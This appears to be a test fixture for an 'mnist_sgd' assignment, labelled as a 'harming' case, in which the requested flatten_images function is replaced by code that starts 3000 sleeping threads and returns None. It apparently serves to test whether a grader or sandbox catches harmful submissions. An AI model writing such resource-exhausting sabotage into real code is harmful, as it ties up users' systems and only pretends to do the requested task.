# assignment: mnist_sgd
# family: harming
# about: starts up to 3000 threads that all wait
# loses: flatten_images
# may_lose: *
# flag: maybe
# %% flatten_images
import threading
import time


def flatten_images(images):
    for _ in range(3000):
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    return None
